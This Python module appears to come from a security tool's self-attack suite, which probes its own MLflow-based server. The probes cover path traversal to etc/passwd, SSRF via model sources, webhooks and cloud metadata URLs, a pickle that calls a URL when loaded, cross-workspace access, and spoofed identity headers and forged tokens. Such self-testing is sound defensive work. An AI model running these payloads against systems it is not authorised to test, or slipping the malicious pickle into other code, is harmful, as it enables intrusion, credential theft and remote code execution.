"""Attacks that reach for what is not theirs: files, other hosts, other workspaces, other names."""

import json
import pickletools
import secrets
import time
from collections.abc import Iterator

from strongroom.faces.cli.self_attack.attempts import (
    Attack,
    Attempt,
    NotApplicable,
    refused,
    told,
)
from strongroom.faces.cli.self_attack.instance import Instance, Listener

_PASSWORDS = b"root:x:"
_FOREIGN_FILE = "etc/passwd"
_UP = (
    "../" * 8, "..%2f" * 8, "%2e%2e/" * 8, "%2e%2e%2f" * 8, "%252e%252e%252f" * 8, "..\\" * 8,
    "..%5c" * 8, "....//" * 8, "/", "//", "%2f", "%00/", "..%c0%af" * 8, "..;/" * 8, "file:///",
)  # fmt: skip
_CHECKED_SECONDS = 60.0


def traversal(instance: Instance) -> Iterator[Attempt]:
    """Paths that leave their place, in every route that takes one."""
    places = (
        "/api/2.0/mlflow-artifacts/artifacts/{}", "/api/2.0/mlflow-artifacts/artifacts?path={}",
        "/get-artifact?run_uuid=" + "0" * 32 + "&path={}",
        "/model-versions/get-artifact?name=m&version=1&path={}",
        "/ajax-api/2.0/mlflow/get-artifact?run_uuid=" + "0" * 32 + "&path={}",
        "/mlflow/static-files/{}", "/static/{}", "/log/tile/{}",
        f"/api/v1/workspaces/{instance.workspace}/data/{{}}",
        f"/api/v1/workspaces/{instance.workspace}/models/{{}}/versions/1/files",
    )  # fmt: skip
    for place in places:
        for up in _UP:
            path = place.format(f"{up}{_FOREIGN_FILE}")
            answer = instance.ask("GET", path)
            attempt = refused(f"GET {path}", answer, secret=_PASSWORDS)
            # A page that is given out for any path is no file of the machine.
            is_leak = _PASSWORDS in answer.body
            yield (
                attempt
                if is_leak or answer.status >= 500
                else Attempt(attempt.what, held=True, seen=attempt.seen)
            )
    for up in _UP:
        path = f"/api/2.0/mlflow-artifacts/artifacts/{up}tmp/self-attack"
        yield refused(f"PUT {path}", instance.ask("PUT", path, content=b"x"))


def other_hosts(instance: Instance) -> Iterator[Attempt]:
    """Sources and links that would let the server ask somewhere, or open a file of its own."""
    with Listener(instance.own_address()) as listener:
        sources = (
            listener.url, f"{listener.url}/model", "file:///etc/passwd", "/etc/passwd",
            f"s3://{listener.url[7:]}/b", f"hdfs://{listener.url[7:]}/b",
            f"dbfs:/{listener.url}", "http://169.254.169.254/latest/meta-data/",
            "http://[::1]:22/", "runs:/../../etc", "models:/../../etc", "mlflow-artifacts:/../..",
            f"mlflow-artifacts://{listener.url[7:]}/x", f"ftp://{listener.url[7:]}/x",
        )  # fmt: skip
        for source in sources:
            shown = source.replace(listener.url[7:], "HERE")
            before = listener.calls
            instance.rpc("registered-models/create", name="self-attack-source")
            answer = instance.rpc("model-versions/create", name="self-attack-source", source=source)
            yield refused(f"model version from {shown}", answer)
            answer = instance.rpc("experiments/create", name=secrets.token_hex(8),
                                  artifact_location=source)  # fmt: skip
            yield refused(f"experiment with artifacts at {shown}", answer)
            answer = instance.rpc("webhooks/create", name="w", url=source, events=[])
            yield refused(f"webhook to {shown}", answer)
            yield Attempt(
                f"nothing is asked at {shown}", listener.calls == before,
                f"{listener.calls - before} calls",
            )  # fmt: skip


def code_in_models(instance: Instance) -> Iterator[Attempt]:
    """A model whose file would call us, were it ever loaded."""
    with Listener(instance.own_address()) as listener:
        run = _new_run(instance)
        name = f"self-attack-{secrets.token_hex(4)}"
        for path, content in (
            ("m/model.pkl", _calling(f"{listener.url}/loaded")),
            ("m/MLmodel", b"flavors:\n  sklearn:\n    pickled_model: model.pkl\n"),
        ):
            answer = instance.ask(
                "PUT", f"/api/2.0/mlflow-artifacts/artifacts/{run['below']}/{path}",
                content=content, headers={"Content-Type": "application/octet-stream"},
            )  # fmt: skip
            if not answer.is_done:
                yield refused(f"upload of {path}", answer)
                return
        instance.rpc("registered-models/create", name=name)
        made = instance.rpc(
            "model-versions/create", name=name, source=f"{run['uri']}/m", run_id=run["id"]
        )
        state = _checked(instance, name) if made.is_done else told(made)
        yield Attempt(
            "a version whose pickle calls an address is never ready", state != "READY", state
        )
        for path in (
            f"/api/v1/workspaces/{instance.workspace}/models/{name}/versions/1/files",
            f"/model-versions/get-artifact?name={name}&version=1&path=model.pkl",
        ):
            yield refused(f"GET {path.replace(name, 'NAME')}", instance.ask("GET", path))
        yield Attempt("the code in it never ran", listener.calls == 0, f"{listener.calls} calls")


def _calling(url: str) -> bytes:
    """A pickle that opens an address when it is loaded, and does nothing else."""
    made = b"cbuiltins\ngetattr\n(cimportlib\nimport_module\n(S'urllib.request'\ntR"
    made += f"S'urlopen'\ntR(S'{url}'\ntR.".encode()
    assert list(pickletools.genops(made))  # noqa: S101 # a pickle, whole
    return made


def _new_run(instance: Instance) -> dict[str, str]:
    experiment = instance.rpc("experiments/create", name=f"self-attack-{secrets.token_hex(4)}")
    found = experiment.json() or {}
    made = instance.rpc("runs/create", experiment_id=str(found.get("experiment_id", "")))
    try:
        info = made.json()["run"]["info"]
        uri = str(info["artifact_uri"])
        return {
            "id": str(info["run_id"]), "uri": uri, "below": uri.removeprefix("mlflow-artifacts:/"),
        }  # fmt: skip
    except (TypeError, KeyError):
        raise NotApplicable(
            "the key may not make an experiment, or MLflow is not answering: give one of a Data "
            f"Scientist ({told(experiment)})"
        ) from None


def _checked(instance: Instance, name: str) -> str:
    deadline = time.monotonic() + _CHECKED_SECONDS
    while time.monotonic() < deadline:
        answer = instance.ask("GET", f"/api/2.0/mlflow/model-versions/get?name={name}&version=1")
        found = (answer.json() or {}).get("model_version", {})
        state = str(found.get("status", told(answer)))
        if state != "PENDING_REGISTRATION":
            return state
        time.sleep(0.2)
    return "PENDING_REGISTRATION"


def other_workspaces(instance: Instance) -> Iterator[Attempt]:
    """What belongs to a workspace in which the key is good for nothing."""
    if not instance.other:
        raise NotApplicable("no other workspace was named: --other-workspace NAME")
    there = f"/api/v1/workspaces/{instance.other}"
    reads = (
        "", "/data", "/data/a", "/data/a/rows", "/models", "/models/a/versions/1",
        "/models/a/versions/1/files", "/endpoints", "/endpoints/a", "/jobs", "/roles", "/key",
        "/log/tail", "/log/export", "/model-policy", "/assessment-plans/robustness",
    )  # fmt: skip
    for path in reads:
        yield refused(f"GET WORKSPACE{path}", instance.ask("GET", there + path))
    writes = {
        "/data/a?format=csv": b"a\n1\n", "/roles": b'{"principal": "me", "role": "Owner"}',
        "/key/rotate": b"{}", "/endpoints": b'{"endpoint": "mine"}',
        "/models/a/versions/1/approve": b"{}", "/model-policy": b"version = 1\n",
    }  # fmt: skip
    for path, content in writes.items():
        yield refused(f"POST WORKSPACE{path}", instance.ask("POST", there + path, content=content))
    foreign = {"X-MLFLOW-WORKSPACE": instance.other}
    for route in ("experiments/search", "registered-models/search", "runs/search"):
        for body in ({"max_results": 10}, {"max_results": 10, "workspace": instance.other}):
            answer = instance.ask(
                "POST" if route != "registered-models/search" else "GET",
                f"/api/2.0/mlflow/{route}", headers=foreign, content=json.dumps(body).encode(),
            )  # fmt: skip
            yield refused(f"MLflow {route} with the other workspace in its header", answer)
    for form in ("score", "invocations", "v2/models/a/infer"):
        path = f"/endpoints/{instance.other}/a/{form}"
        yield refused(f"POST {path}", instance.ask("POST", path, content=b'{"rows": [[1]]}'))


def other_names(instance: Instance) -> Iterator[Attempt]:
    """Headers that would make somebody else of the caller, where a proxy is believed."""
    names = {
        "X-Forwarded-User": "root", "X-Remote-User": "root", "Remote-User": "root",
        "X-Auth-Request-User": "root", "X-Auth-Request-Email": "root@localhost",
        "X-Forwarded-Email": "root@localhost", "X-Authenticated-User": "root",
        "X-Original-URL": "/metrics", "X-Rewrite-URL": "/metrics", "X-HTTP-Method-Override": "GET",
        "X-Forwarded-For": "127.0.0.1", "X-Real-IP": "127.0.0.1", "Forwarded": "for=127.0.0.1",
        "X-Forwarded-Host": "localhost", "X-Forwarded-Proto": "https",
    }  # fmt: skip
    own = f"/api/v1/workspaces/{instance.workspace}/data"
    for name, value in names.items():
        for path in (own, "/api/v1/whoami", "/api/2.0/mlflow/experiments/search?max_results=1"):
            answer = instance.ask("GET", path, headers={name: value}, with_key=False)
            yield refused(f"GET {path} without a key, with {name}", answer)
    for wrong in ("", "Bearer ", "Bearer null", "Basic YWRtaW46YWRtaW4=", "Bearer srk_0_0",
                  "Bearer eyJhbGciOiJub25lIn0.eyJzdWIiOiJyb290In0."):  # fmt: skip
        answer = instance.ask("GET", own, headers={"Authorization": wrong}, with_key=False)
        yield refused(f"GET {own} with the credential `{wrong[:24]}`", answer)
    me = instance.ask("GET", "/api/v1/whoami").body
    for name, value in names.items():
        answer = instance.ask("GET", "/api/v1/whoami", headers={name: value})
        yield Attempt(
            f"with {name} the caller stays who they are",
            not answer.is_done or _who(answer.body) == _who(me), told(answer),
        )  # fmt: skip


def _who(body: bytes) -> object:
    try:
        found = json.loads(body)
    except ValueError:
        return body
    return (found.get("id"), found.get("name")) if isinstance(found, dict) else found


ATTACKS = (
    Attack("self.traversal", 6, "Paths that leave their place",
           ("AML.T0037", "AML.T0049"), traversal),
    Attack("self.other_hosts", 4, "Sources that send the server elsewhere",
           ("AML.T0049",), other_hosts),
    Attack("self.code_in_models", 4, "Code in a model's file", ("AML.T0011.000", "AML.T0018.002"),
           code_in_models),
    Attack("self.other_workspaces", 4, "What belongs to another workspace", ("AML.T0012",),
           other_workspaces),
    Attack("self.other_names", 4, "Headers and credentials that pretend", ("AML.T0012",),
           other_names),
)  # fmt: skip
